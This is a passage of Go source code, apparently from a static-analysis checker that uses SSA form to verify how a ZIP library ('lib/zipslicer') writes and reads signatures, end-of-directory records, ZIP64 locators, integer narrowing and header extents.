				if !strings.HasPrefix(name, "(encoding/binary.") {
					continue
				}
				n++
				key := fmt.Sprintf("%s byteorder#%d", p.FName(fn), n)
				c.Check(strings.HasPrefix(name, "(encoding/binary.littleEndian)"), "R17b", key, p.Pos(ci.Pos()), name, name+" is not little-endian")
			}
		}
	}

	c17Signatures(c, fns, ios)
	c17EndOrder(c, fns, ios)
	c17SigSet(c, fns, ios)
	c17Narrowing(c, fns)
	c17Extents(c, fns)
	c17NilParams(c, fns)
	c17Method(c)
	c17StreamOrder(c)
	c17Sentinel(c)
	c17DescriptorDiscriminator(c)
	c17RawReadOnly(c)
	c17Round3(c)
}

// sigConstName maps a constant value back to the package's signature constant name.
func (p *Prog) c17SigNames() map[int64]string {
	out := map[int64]string{}
	pk := p.Pkg("lib/zipslicer")
	if pk == nil {
		return out
	}
	for _, n := range pk.Types.Scope().Names() {
		if k, ok := pk.Types.Scope().Lookup(n).(*types.Const); ok && (strings.HasSuffix(n, "Signature") || n == "zip64ExtraID") {
			if v, ok := constant.Int64Val(k.Val()); ok {
				out[v] = n
			}
		}
	}
	return out
}

func c17Signatures(c *Ctx, fns []*ssa.Function, ios []binIO) {
	p := c.P
	names := p.c17SigNames()
	if len(names) < 7 {
		c.Undecided("R17c", "signature constants", "-", fmt.Sprintf("only %d signature constants found", len(names)))
		return
	}
	// distinct values
	c.Check(len(names) >= 7, "R17c", "signature constants distinct", "-", fmt.Sprintf("%d distinct values", len(names)), "signature constants collide")
	written := map[string]map[int64]bool{}  // type -> constants stored into .Signature
	compared := map[string]map[int64]bool{} // type -> constants compared with .Signature
	rawCmp := map[int64]string{}            // constants compared with a raw ByteOrder.UintN result
	add := func(m map[string]map[int64]bool, t string, v int64) {
		if m[t] == nil {
			m[t] = map[int64]bool{}
		}
		m[t][v] = true
	}
	isSigLoad := func(v ssa.Value) (string, bool) {
		v = stripConvAll(v)
		if tn, f, _ := p.fieldLoad(v); tn != "" && f == "Signature" {
			return tn, true
		}
		return "", false
	}
	for _, fn := range fns {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.Store:
					if tn, f, _ := p.fieldAddr(x.Addr); tn != "" && f == "Signature" {
						if k, ok := constInt(x.Val); ok {
							add(written, tn, k)
						}
					}
				case *ssa.BinOp:
					if x.Op != token.EQL && x.Op != token.NEQ {
						continue
					}
					for _, pr := range [][2]ssa.Value{{x.X, x.Y}, {x.Y, x.X}} {
						k, ok := constInt(pr[1])
						if !ok || k == 0 {
							continue
						}
						if tn, ok := isSigLoad(pr[0]); ok {
							add(compared, tn, k)
						} else if call, ok := stripConvAll(pr[0]).(*ssa.Call); ok && strings.HasPrefix(p.calleeName(call.Common()), "(encoding/binary.littleEndian).Uint") {
							// 0xffff / 0xffffffff are the ZIP64 "see extra field" sentinels, not markers
							if _, isSig := names[k]; isSig || (k > 0xffff && k != 0xffffffff) {
								rawCmp[k] = p.Pos(x.Pos())
							}
						}
					}
				}
			}
		}
	}
	allWritten := map[int64]string{}
	for _, tn := range sortedKeys(written) {
		ks := written[tn]
		short := strings.TrimPrefix(tn, "lib/zipslicer.")
		var ns []string
		for k := range ks {
			ns = append(ns, names[k])
		}
		sort.Strings(ns)
		okOne := len(ks) == 1
		for k := range ks {
			if _, known := names[k]; !known {
				okOne = false
			}
			if other, dup := allWritten[k]; dup && !(strings.HasPrefix(other, "zipDataDesc") && strings.HasPrefix(short, "zipDataDesc")) {
				okOne = false
				ns = append(ns, "(also written into "+other+")")
			}
			allWritten[k] = short
		}
		c.Check(okOne, "R17c", "writers of "+short+".Signature", "-", strings.Join(ns, ","), fmt.Sprintf("writers store %v into %s.Signature: a record type has exactly one signature and shares it with no other record", ns, short))
	}
	for _, tn := range sortedKeys(compared) {
		short := strings.TrimPrefix(tn, "lib/zipslicer.")
		ok := true
		var ns []string
		for k := range compared[tn] {
			ns = append(ns, fmt.Sprintf("%s(%#x)", names[k], k))
			if !written[tn][k] {
				// a type that relic only parses (never builds) may have no writer: then the
				// constant must at least be a named signature of the right family
				if len(written[tn]) > 0 || names[k] == "" {
					ok = false
				}
			}
		}
		sort.Strings(ns)
		c.Check(ok, "R17c", "readers of "+short+".Signature", "-", strings.Join(ns, ","), fmt.Sprintf("readers compare %s.Signature with %v, which is not what writers store into it: relic rejects (or mis-detects) the records it and every other tool writes", short, ns))
	}
	for k, pos := range rawCmp {
		_, isWritten := allWritten[k]
		c.Check(isWritten, "R17c", fmt.Sprintf("raw comparison with %s", names[k]), pos, "constant is the signature of a written record type", fmt.Sprintf("a 4-byte marker is compared with %#x, which no writer stores as a record signature", k))
	}
	if len(written) < 7 {
		c.Undecided("R17c", "signature writers", "-", fmt.Sprintf("only %d record types have their signature stored by a writer (7 confirmed by reading)", len(written)))
	}
}

// stripConvAll also removes integer conversions.
func stripConvAll(v ssa.Value) ssa.Value {
	for {
		v = stripConv(v)
		cv, ok := v.(*ssa.Convert)
		if !ok {
			return v
		}
		v = cv.X
	}
}

var c17EndRank = map[string]int{"lib/zipslicer.zip64End": 0, "lib/zipslicer.zip64Loc": 1, "lib/zipslicer.zipEndRecord": 2}

func c17EndOrder(c *Ctx, fns []*ssa.Function, ios []binIO) {
	p := c.P
	byFn := map[*ssa.Function][]binIO{}
	for _, io := range ios {
		if _, ok := c17EndRank[io.Type]; ok {
			byFn[io.Fn] = append(byFn[io.Fn], io)
		}
	}
	var order []*ssa.Function
	for fn := range byFn {
		order = append(order, fn)
	}
	sort.Slice(order, func(i, j int) bool { return p.FName(order[i]) < p.FName(order[j]) })
	for _, fn := range order {
		list := byFn[fn]
		if len(list) < 2 {
			continue
		}
		// no lower-rank record after a higher-rank one on the same stream kind
		ok := true
		detail := ""
		for _, a := range list {
			for _, b := range list {
				if a.Call == b.Call || a.Write != b.Write || a.Stream != b.Stream {
					continue
				}
				if c17EndRank[a.Type] > c17EndRank[b.Type] && reachableAfter(fn, a.Call, b.Call, nil, nil) {
					// reading the tail of a file backwards-assembled ([loc64][end]) is the one legal case: same order
					ok = false
					detail = fmt.Sprintf("%s at %s can follow %s at %s", b.Type, p.Pos(b.Call.Pos()), a.Type, p.Pos(a.Call.Pos()))
				}
			}
		}
		c.Check(ok, "R17d", p.FName(fn)+" record order", p.Pos(fn.Pos()), "zip64End < zip64Loc < zipEndRecord on every path", "end-of-directory records out of order: "+detail)
		// pairing: a zip64End write is always followed by a zip64Loc write before the end record
		for _, a := range list {
			if !a.Write || a.Type != "lib/zipslicer.zip64End" {
				continue
			}
			var locs, ends []binIO
			for _, b := range list {
				if b.Write && b.Type == "lib/zipslicer.zip64Loc" {
					locs = append(locs, b)
				}
				if b.Write && b.Type == "lib/zipslicer.zipEndRecord" {
					ends = append(ends, b)
				}
			}
			okPair := len(locs) > 0
			// a function that re-emits the parsed records, each behind its own Signature test,
			// pairs them exactly as the parser found them: the pairing obligation is the parser's
			reemit := len(locs) > 0
			for _, l := range append([]binIO{a}, locs...) {
				vd, _, addr, copies := c17SigOrigin2(p, l.Type, l.Data, 0)
				if vd != "field" || !c17OwnSigTest(p, l, addr, copies) {
					reemit = false
				}
			}
			if reemit {
				c.PassTrivial("R17d", p.FName(fn)+" zip64 end record is followed by its locator", p.Pos(a.Call.Pos()), "re-emits the parsed records, each behind its own Signature test; pairing is established by the parser (checked on ReadWithDirectory)")
				continue
			}
			for _, e := range ends {
				// can e be reached after a without passing a locator write?
				del := map[edge]bool{}
				same := false
				for _, l := range locs {
					if l.Call.Block() == a.Call.Block() && instrIndex(l.Call) > instrIndex(a.Call) {
						same = true
					}
					for si := range l.Call.Block().Succs {
						del[edge{l.Call.Block().Index, si}] = true
					}
					if l.Call.Block() == e.Call.Block() && instrIndex(l.Call) < instrIndex(e.Call) {
						same = true
					}
				}
				if same {
					continue
				}
				// error exits between the two writes leave through `return err`, never to e
				if reachableAfter(fn, a.Call, e.Call, del, nil) {
					okPair = false
				}
			}
			c.Check(okPair, "R17d", p.FName(fn)+" zip64 end record is followed by its locator", p.Pos(a.Call.Pos()), "", "a ZIP64 end-of-directory record can be written without the locator that readers use to find it")
		}
	}
	// parser: the locator is read whenever the ZIP64 end record is
	if rw := p.Func("lib/zipslicer.ReadWithDirectory"); rw == nil {
		c.Undecided("R17d", "ReadWithDirectory", "-", "function not found")
	} else {
		var e64, l64 []binIO
		for _, io := range byFn[rw] {
			if !io.Write && io.Type == "lib/zipslicer.zip64End" {
				e64 = append(e64, io)
			}
			if !io.Write && io.Type == "lib/zipslicer.zip64Loc" {
				l64 = append(l64, io)
			}
		}
		ok := len(e64) == 1 && len(l64) == 1 && e64[0].Stream == l64[0].Stream && e64[0].Call.Block() == l64[0].Call.Block() && instrIndex(e64[0].Call) < instrIndex(l64[0].Call)
		c.Check(ok, "R17d", "lib/zipslicer.ReadWithDirectory reads the locator right after the zip64 end record", p.Pos(rw.Pos()), "same reader, same block", "the parser does not read the ZIP64 locator together with the ZIP64 end record: re-emission can produce one without the other")
	}
	// writers: every success path passes the end record, except the entries-only request
	for _, spec := range []string{"lib/zipslicer.(*Directory).WriteDirectory", "lib/zipslicer.(*Directory).Truncate", "lib/zipslicer.(*Directory).GetOriginalDirectory"} {
		fn := p.Func(spec)
		if fn == nil {
			c.Undecided("R17d", spec, "-", "function not found")
			continue
		}
		var ends []ssa.Instruction
		for _, io := range byFn[fn] {
			if io.Write && io.Type == "lib/zipslicer.zipEndRecord" {
				ends = append(ends, io.Call)
			}
		}
		del := map[edge]bool{}
		for _, e := range ends {
			for si := range e.Block().Succs {
				del[edge{e.Block().Index, si}] = true
			}
		}
		// the entries-only request: edges on which the end-of-directory writer parameter is nil
		nilG := Guard{Name: "weod==nil", Match: func(f Fact) bool {
			pa, ok := stripConv(f.V).(*ssa.Parameter)
			return ok && f.Kind == IsNil && pa.Name() == "weod"
		}}
		for e := range passEdges(fn, nilG) {
			del[e] = true
		}
		seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
		ok := len(ends) > 0
		where := ""
		for _, r := range p.successReturns(fn) {
			inEnd := false
			for _, e := range ends {
				if e.Block() == r.Block() {
					inEnd = true
				}
			}
			if seen[r.Block().Index] && !inEnd {
				ok = false
				where = p.Pos(r.Pos())
			}
		}
		c.Check(ok, "R17d", p.FName(fn)+" success paths end with the end record", p.Pos(fn.Pos()), "", "a success return at "+where+" is reachable without writing the end-of-central-directory record")
	}
}

// c17SigSet: R17e.
func c17SigSet(c *Ctx, fns []*ssa.Function, ios []binIO) {
	p := c.P
	n := map[*ssa.Function]int{}
	for _, io := range ios {
		if !io.Write {
			continue
		}
		st, ok := io.T.Underlying().(*types.Struct)
		if !ok {
			continue
		}
		hasSig := false
		for i := 0; i < st.NumFields(); i++ {
			if st.Field(i).Name() == "Signature" {
				hasSig = true
			}
		}
		if !hasSig {
			continue
		}
		n[io.Fn]++
		short := strings.TrimPrefix(io.Type, "lib/zipslicer.")
		key := fmt.Sprintf("%s write#%d %s", p.FName(io.Fn), n[io.Fn], short)
		pos := p.Pos(io.Call.Pos())
		// the written value: a load of a local Alloc (composite literal / copy) or of a field
		verdict, detail, addr, copies := c17SigOrigin2(p, io.Type, io.Data, 0)
		switch verdict {
		case "const":
			c.Pass("R17e", key, pos, "built here with its signature constant")
		case "unset":
			c.Fail("R17e", key, pos, short+" is written without its Signature ever being set in this function")
		case "field":
			c17SigGuard(c, io, key, pos, short, addr, copies)
		default:
			c.Undecided("R17e", key, pos, detail)
		}
	}
}

// c17SigOrigin classifies where the record value v gets its Signature from: "const" (a
// non-zero constant is stored into it in this function), "field" (copied from the struct
// field at addr, which this function does not assign), "unset", or "" (not understood).
func c17SigOrigin(p *Prog, tname string, v ssa.Value, depth int) (verdict, detail string, addr ssa.Value) {
	verdict, detail, addr, _ = c17SigOrigin2(p, tname, v, depth)
	return
}

func c17SigOrigin2(p *Prog, tname string, v ssa.Value, depth int) (verdict, detail string, addr ssa.Value, copies []ssa.Value) {
	if depth > 4 {
		return "", "copy chain too long", nil, nil
	}
	l, ok := v.(*ssa.UnOp)
	if !ok || l.Op != token.MUL {
		return "", "written value is not a variable or field load", nil, nil
	}
	if src, ok := l.X.(*ssa.Alloc); ok {
		var copiedFrom ssa.Value
		for _, r := range *src.Referrers() {
			switch x := r.(type) {
			case *ssa.FieldAddr:
				if tn, f, _ := p.fieldAddr(x); tn == tname && f == "Signature" {
					for _, rr := range *x.Referrers() {
						if s, ok := rr.(*ssa.Store); ok {
							if k, ok := constInt(s.Val); ok && k != 0 {
								return "const", "", nil, nil
							}
						}
					}
				}
			case *ssa.Store:
				if x.Addr == ssa.Value(src) {
					copiedFrom = x.Val
				}
			}
		}
		if copiedFrom == nil {
			return "unset", "", nil, nil
		}
		vd, dt, ad, cp := c17SigOrigin2(p, tname, copiedFrom, depth+1)
		return vd, dt, ad, append(cp, src)
	}
	// a field: assigned in this function (f.lfh = zipLocalHeader{...}) or inherited
	if sv := p.lastStoreBefore(l); sv != nil {
		return c17SigOrigin2(p, tname, sv, depth+1)
	}
	return "field", "", l.X, nil
}

// c17SigGuard: the record comes from the field at addr (d.end, d.end64, d.loc64, f.lfh):
// the write must be behind `that field's Signature != 0`, a successful readLocalHeader, or
// the function is only ever called on parsed directories.
func c17SigGuard(c *Ctx, io binIO, key, pos, short string, addr ssa.Value, copies []ssa.Value) {
	p := c.P
	fkey := p.memKey(addr)
	if fkey == "" {
		c.Undecided("R17e", key, pos, "source of the copied record not identified")
		return
	}
	sigNonZero := Guard{Name: fkey + ".Signature != 0", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		// (x.Signature != 0) true, or (x.Signature == 0) false
		want := (bo.Op == token.NEQ && f.Kind == IsTrue) || (bo.Op == token.EQL && f.Kind == IsFalse)
		if !want {
			return false
		}
		for _, pr := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
			if !isIntConst(pr[1], 0) {
				continue
			}
			ld, ok := pr[0].(*ssa.UnOp)
			if !ok || ld.Op != token.MUL {
				continue
			}
			fa, ok := ld.X.(*ssa.FieldAddr)
			if !ok {
				continue
			}
			if _, f, _ := p.fieldAddr(fa); f == "Signature" {
				if k := p.memKey(fa.X); k == fkey || (k != "" && k == c17PairedRecord[fkey]) {
					return true
				}
				// the local copy that is serialised (end64 := d.end64; if end64.Signature != 0 {...})
				for _, cp := range copies {
					if fa.X == cp {
						return true
					}
				}
			}
		}
		return false
	}}
	readOK := p.callGuard("readLocalHeader()==nil", []string{"(*lib/zipslicer.File).readLocalHeader"}, -1, IsNil, nil)
	for _, g := range []Guard{sigNonZero, readOK} {
		if missing, _ := p.unguardedFromEntry(io.Fn, io.Call, g); len(missing) == 0 {
			c.Pass("R17e", key, pos, "guarded by "+g.Name)
			return
		}
	}
	// receiver comes from the parser in every module caller
	if why, ok := c17ParsedOnly[p.FName(io.Fn)+" "+short]; ok {
		bad := c17CallersNotParsed(p, io.Fn)
		if len(bad) == 0 {
			c.PassTrivial("R17e", key, pos, "defined on parsed directories only: "+why)
			return
		}
		c.Fail("R17e", key, pos, fmt.Sprintf("%s copies %s from the directory without a Signature test and is called on a directory that did not come from the parser (%s)", p.FName(io.Fn), short, strings.Join(bad, "; ")))
		return
	}
	c.Fail("R17e", key, pos, fmt.Sprintf("%s is copied from %s and serialised with no test that its Signature is set: for an archive without that record this writes an all-zero record (%d stray bytes) into the directory", short, fkey, mustSize(io.T)))
}

// c17PairedRecord: the parser reads the ZIP64 locator if and only if it reads the ZIP64 end
// record (R17d checks that), so a test of the end record's signature covers the locator.
var c17PairedRecord = map[string]string{"f:lib/zipslicer.Directory.loc64": "f:lib/zipslicer.Directory.end64"}

func mustSize(t types.Type) int64 { n, _ := wireSize(t); return n }

// c17ParsedOnly: functions whose contract is "receiver was produced by Read/ReadZipTar".
var c17ParsedOnly = map[string]string{
	"(*lib/zipslicer.Directory).Truncate zipEndRecord": "Truncate(n) re-emits the first n entries of an archive that was read (d.File[n] must exist); every parsed directory has an end record (ReadWithDirectory fails otherwise); its callers are checked to pass a parsed directory",
}

var c17Parsers = map[string]bool{
	"lib/zipslicer.Read": true, "lib/zipslicer.ReadStream": true, "lib/zipslicer.ReadZipTar": true, "lib/zipslicer.ReadWithDirectory": true,
}

// c17CallersNotParsed lists module call sites of fn whose receiver is not (a copy of) the
// result of one of the parser entry points.
func c17CallersNotParsed(p *Prog, fn *ssa.Function) (bad []string) {
	n := 0
	for _, caller := range p.Funcs {
		for _, b := range caller.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok || ci.Common().StaticCallee() != fn {
					continue
				}
				n++
				recv := ci.Common().Args[0]
				ok2 := false
				for _, lf := range phiLeaves(recv, nil, map[*ssa.Phi]bool{}) {
					v := lf.V
					if l, isLoad := v.(*ssa.UnOp); isLoad && l.Op == token.MUL {
						if sv := singleStoreValue(l); sv != nil {
							v = sv
						}
					}
					call, _ := resultOf(v)
					ok2 = call != nil && c17Parsers[p.calleeName(call.Common())]
					if !ok2 {
						break
					}
				}
				if !ok2 {
					bad = append(bad, p.FName(caller)+" at "+p.Pos(ci.Pos()))
				}
			}
		}
	}
	if n == 0 {
		bad = append(bad, "no module caller found")
	}
	return
}

// ------------------------------------------------------------------------------ R17f

// c17NarrowExempt: narrowing sites accepted with a reason.
var c17NarrowExempt = map[string]string{
	"(*lib/zipslicer.Directory).NewFile": "sizes of a new member are lengths of in-memory byte slices that relic itself builds (manifests, signature blocks); 4 GiB members cannot be added this way",
}

func c17Narrowing(c *Ctx, fns []*ssa.Function) {
	p := c.P
	te := &taintEngine{p: p}
	for _, fn := range fns {
		n := 0
		// sinks: binary.Write calls and returns
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				cv, ok := in.(*ssa.Convert)
				if !ok {
					continue
				}
				from, to := intWidth(cv.X.Type()), intWidth(cv.Type())
				if from != 64 || to == 0 || to >= 64 {
					continue
				}
				// lengths of in-memory slices/strings are exempt (see NotDecided)
				if isLenLike(p, cv.X) {
					continue
				}
				// does the narrowed value reach a record field?
				field := c17StoredField(p, cv)
				if field == "" {
					continue
				}
				n++
				key := fmt.Sprintf("%s narrow#%d %s", p.FName(fn), n, field)
				pos := p.Pos(cv.Pos())
				if why, ok := c17NarrowExempt[p.FName(fn)]; ok {
					c.PassTrivial("R17f", key, pos, "exception: "+why)
					continue
				}
				g, keys := te.derivGroup(cv.X)
				cb := te.comparisonBlocks(fn, g, keys, "narrow")
				// comparison later in the conversion's own block is on every path out of it
				ownLater := cb[b.Index]
				// phase 1: conversion reachable without a prior comparison?
				del := map[edge]bool{}
				for bi := range cb {
					if bi == b.Index {
						continue
					}
					for si := range fn.Blocks[bi].Succs {
						del[edge{bi, si}] = true
					}
				}
				pred := map[int]int{}
				before := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, pred)
				if fn.Blocks[0] == b {
					before[b.Index] = true
				}
				if !before[b.Index] {
					c.Pass("R17f", key, pos, "every path to the conversion compares the quantity first")
					continue
				}
				if ownLater {
					// the If that ends this block compares it: both outcomes are after the comparison;
					// on the "too big" outcome the field must be overwritten (checked below through kill blocks)
				}
				// phase 2: from the conversion, can a serialisation or return be reached without a
				// comparison and without the field being overwritten by something else?
				kill := map[int]bool{}
				for _, kb := range fn.Blocks {
					for _, kin := range kb.Instrs {
						if st, ok := kin.(*ssa.Store); ok {
							if tn, f, _ := p.fieldAddr(st.Addr); tn != "" && tn+"."+f == field && !dependsOn(st.Val, func(x ssa.Value) bool { return x == ssa.Value(cv) }) {
								kill[kb.Index] = true
							}
						}
					}
				}
				del2 := map[edge]bool{}
				for bi := range cb {
					if bi == b.Index {
						continue
					}
					for si := range fn.Blocks[bi].Succs {
						del2[edge{bi, si}] = true
					}
				}
				for bi := range kill {
					if bi == b.Index {
						continue
					}
					for si := range fn.Blocks[bi].Succs {
						del2[edge{bi, si}] = true
					}
				}
				var starts []*ssa.BasicBlock
				if ownLater {
					// both successors are "after the comparison": the only unguarded continuation
					// would be through this block again; treat the comparison as passed
					c.Pass("R17f", key, pos, "compared right after the conversion; the over-limit branch overwrites the field")
					// still require that the over-limit branch does not serialise the truncated value:
					// covered by kill blocks when the branch stores the sentinel
					continue
				}
				// one search in two legs (entry to the conversion without a comparison, on from there
				// without a comparison or an overwrite), so that a flag set on the first leg
				// (`minVersion = zip45`) still decides the branch taken on the second
				_ = starts
				pred2 := map[int]int{}
				_, after := reachVia(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil, b, del2, pred2)
				bad := ""
				var path []string
				for _, sb := range fn.Blocks {
					if !after[sb.Index] || kill[sb.Index] || cb[sb.Index] {
						continue
					}
					for _, sin := range sb.Instrs {
						switch y := sin.(type) {
						case ssa.CallInstruction:
							if p.calleeName(y.Common()) == "encoding/binary.Write" && bad == "" && writesRecord(p, y, field) {
								bad = "serialised at " + p.Pos(y.Pos())
								path = p.witness(fn, pred2, sb.Index)
							}
						}
					}
				}
				// same block: a binary.Write after the conversion
				for i := instrIndex(cv) + 1; i < len(b.Instrs) && bad == ""; i++ {
					if y, ok := b.Instrs[i].(ssa.CallInstruction); ok && p.calleeName(y.Common()) == "encoding/binary.Write" && writesRecord(p, y, field) {
						bad = "serialised at " + p.Pos(y.Pos())
					}
				}
				if bad == "" {
					c.Pass("R17f", key, pos, "no serialisation reachable without a comparison or an overwrite")
					continue
				}
				c.Fail("R17f", key, pos, fmt.Sprintf("%s is narrowed to %d bits into %s and %s with no comparison of that quantity against the field's limit on the path: a larger value is silently truncated and the record no longer describes the archive", short(cv.X.String(), 40)+" ("+describeVal(p, cv.X)+")", to, field, bad), path...)
			}
		}
	}
}

// writesRecord: may this binary.Write serialise the record type the field belongs to? (A value
// of another record type boxed into the data argument cannot hold the narrowed field.)
func writesRecord(p *Prog, ci ssa.CallInstruction, field string) bool {
	args := ci.Common().Args
	if len(args) < 3 {
		return true
	}
	mi, ok := args[2].(*ssa.MakeInterface)
	if !ok {
		return true
	}
	t := mi.X.Type()
	if pt, ok := t.Underlying().(*types.Pointer); ok {
		t = pt.Elem()
	}
	if _, isStruct := t.Underlying().(*types.Struct); !isStruct {
		return true
	}
	return strings.HasPrefix(field, typeName(p, t)+".")
}

func describeVal(p *Prog, v ssa.Value) string {
	if k := p.memKey(v); k != "" {
		return k
	}
	if pa, ok := v.(*ssa.Parameter); ok {
		return "parameter " + pa.Name()
	}
	if ph, ok := v.(*ssa.Phi); ok {
		return "variable " + ph.Comment
	}
	return v.Name()
}

// isLenLike: the value is len()/cap() of something, a Len() method result, or a sum of such.
func isLenLike(p *Prog, v ssa.Value) bool {
	switch x := v.(type) {
	case *ssa.Call:
		if bi, ok := x.Call.Value.(*ssa.Builtin); ok {
			return bi.Name() == "len" || bi.Name() == "cap"
		}
		n := p.calleeName(x.Common())
		return strings.HasSuffix(n, ").Len")
	case *ssa.Convert:
		return isLenLike(p, x.X)
	}
	return false
}

// c17StoredField: "pkg.Type.Field" of the zipslicer record field the converted value is stored
// into (directly, or after further arithmetic on a copy such as `end.CDOffset -= uint32(delta)`).
func c17StoredField(p *Prog, cv *ssa.Convert) string {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int) string
	walk = func(v ssa.Value, d int) string {
		if seen[v] || d > 4 {
			return ""
		}
		seen[v] = true
		for _, r := range *v.Referrers() {
			switch x := r.(type) {
			case *ssa.Store:
				if x.Val == v {
					if tn, f, _ := p.fieldAddr(x.Addr); strings.HasPrefix(tn, "lib/zipslicer.zip") {
						return tn + "." + f
					}
				}
			case *ssa.BinOp:
				if s := walk(x, d+1); s != "" {
					return s
				}
			case *ssa.Phi:
				if s := walk(x, d+1); s != "" {
					return s
				}
			}
		}
		return ""
	}
	return walk(cv, 0)
}

// ------------------------------------------------------------------------------ R17g

func c17Extents(c *Ctx, fns []*ssa.Function) {
	p := c.P
	lfhSize, _ := p.pkgConst("lib/zipslicer", "fileHeaderLen")
	cdSize, _ := p.pkgConst("lib/zipslicer", "directoryHeaderLen")
	// leaf classification
	leafKind := func(v ssa.Value) string {
		v = stripConvAll(v)
		if call, ok := v.(*ssa.Call); ok {
			if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
				k := p.memKey(stripConvAll(call.Call.Args[0]))
				switch k {
				case "f:lib/zipslicer.File.lfhName", "f:lib/zipslicer.File.lfhExtra":
					return "lfh"
				case "f:lib/zipslicer.File.Name", "f:lib/zipslicer.File.Extra", "f:lib/zipslicer.File.Comment":
					return "cd"
				}
			}
			return ""
		}
		if tn, f, _ := p.fieldLoad(v); tn != "" {
			switch {
			case tn == "lib/zipslicer.zipLocalHeader" && (f == "FilenameLen" || f == "ExtraLen"):
				return "lfh"
			case tn == "lib/zipslicer.zipCentralDir" && (f == "FilenameLen" || f == "ExtraLen" || f == "CommentLen"):
				return "cd"
			}
		}
		return ""
	}
	var flatten func(v ssa.Value, leaves *[]ssa.Value, d int)
	flatten = func(v ssa.Value, leaves *[]ssa.Value, d int) {
		if bo, ok := stripConvAll(v).(*ssa.BinOp); ok && bo.Op == token.ADD && d < 10 {
			flatten(bo.X, leaves, d+1)
			flatten(bo.Y, leaves, d+1)
			return
		}
		*leaves = append(*leaves, v)
	}
	// summarise one addition node: number of name/extra leaves per kind and the constant part
	summarise := func(bo *ssa.BinOp) (map[string]int, int64) {
		var leaves []ssa.Value
		flatten(bo, &leaves, 0)
		kinds := map[string]int{}
		var konst int64
		for _, l := range leaves {
			if k, ok := constInt(stripConvAll(l)); ok {
				konst += k
				continue
			}
			if kd := leafKind(l); kd != "" {
				kinds[kd]++
			}
		}
		return kinds, konst
	}
	addChild := func(v ssa.Value) *ssa.BinOp {
		if bo, ok := stripConvAll(v).(*ssa.BinOp); ok && bo.Op == token.ADD {
			return bo
		}
		return nil
	}
	// parents: additions that use v (directly or through an integer conversion)
	var parents func(v ssa.Value) []*ssa.BinOp
	parents = func(v ssa.Value) (out []*ssa.BinOp) {
		for _, r := range *v.Referrers() {
			switch x := r.(type) {
			case *ssa.BinOp:
				if x.Op == token.ADD {
					out = append(out, x)
				}
			case *ssa.Convert:
				out = append(out, parents(x)...)
			}
		}
		return
	}
	for _, fn := range fns {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok || bo.Op != token.ADD {
					continue
				}
				kinds, _ := summarise(bo)
				for _, kd := range []string{"cd", "lfh"} {
					want := map[string]int64{"lfh": lfhSize, "cd": cdSize}[kd]
					if kinds[kd] < 2 {
						continue
					}
					// minimal node: no addition child already holds two such leaves
					minimal := true
					for _, ch := range []*ssa.BinOp{addChild(bo.X), addChild(bo.Y)} {
						if ch != nil {
							if ck, _ := summarise(ch); ck[kd] >= 2 {
								minimal = false
							}
						}
					}
					if !minimal {
						continue
					}
					n++
					key := fmt.Sprintf("%s extent#%d %s", p.FName(fn), n, kd)
					what := map[string]string{"lfh": "local header", "cd": "central directory header"}[kd]
					// the header size is added here or by an enclosing addition
					found := false
					var consts []string
					seen := map[*ssa.BinOp]bool{}
					work := []*ssa.BinOp{bo}
					for len(work) > 0 {
						x := work[0]
						work = work[1:]
						if seen[x] {
							continue
						}
						seen[x] = true
						_, k := summarise(x)
						consts = append(consts, fmt.Sprint(k))
						if k == want {
							found = true
						}
						work = append(work, parents(x)...)
					}
					c.Check(found, "R17g", key, p.Pos(bo.Pos()), fmt.Sprintf("name/extra lengths are extended by %d = size of the %s", want, what),
						fmt.Sprintf("the extent adds the constant(s) %s to the %s's variable-length fields, but the fixed part of a %s is %d bytes", strings.Join(consts, "/"), what, what, want))
				}
			}
		}
	}
}

// ------------------------------------------------------------------------------ R17h

func c17NilParams(c *Ctx, fns []*ssa.Function) {
	p := c.P
	for _, fn := range fns {
		for _, pa := range fn.Params {
			if _, isIface := pa.Type().Underlying().(*types.Interface); !isIface {
				continue
			}
			// belief: the function compares the parameter with nil somewhere
			tested := false
			for _, r := range *pa.Referrers() {
				if bo, ok := r.(*ssa.BinOp); ok && (bo.Op == token.EQL || bo.Op == token.NEQ) && (isNilConst(bo.X) || isNilConst(bo.Y)) {
					tested = true
				}
			}
			if !tested {
				continue
			}
			nonNil := Guard{Name: pa.Name() + " != nil", Match: func(f Fact) bool { return f.Kind == NonNil && stripConv(f.V) == ssa.Value(pa) }}
			key := fmt.Sprintf("%s param %s", p.FName(fn), pa.Name())
			bad := ""
			var path []string
			for _, r := range *pa.Referrers() {
				switch x := r.(type) {
				case *ssa.BinOp, *ssa.DebugRef:
					continue
				case ssa.Instruction:
					if missing, w := p.unguardedFromEntry(fn, x, nonNil); len(missing) > 0 && bad == "" {
						bad = fmt.Sprintf("%s at %s", short(x.String(), 60), p.Pos(x.Pos()))
						path = w
					}
				}
			}
			c.Check(bad == "", "R17h", key, p.Pos(fn.Pos()), "every use is behind the nil test", fmt.Sprintf("%s is compared with nil in this function (so nil is an expected argument) and yet used where it can be nil: %s", pa.Name(), bad), path...)
		}
	}
}

// c17OwnSigTest: is the write behind a Signature != 0 test of the very record it serialises?
func c17OwnSigTest(p *Prog, io binIO, addr ssa.Value, copies []ssa.Value) bool {
	fkey := p.memKey(addr)
	g := Guard{Name: "own Signature != 0", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		if !((bo.Op == token.NEQ && f.Kind == IsTrue) || (bo.Op == token.EQL && f.Kind == IsFalse)) {
			return false
		}
		for _, pr := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
			if !isIntConst(pr[1], 0) {
				continue
			}
			ld, ok := pr[0].(*ssa.UnOp)
			if !ok || ld.Op != token.MUL {
				continue
			}
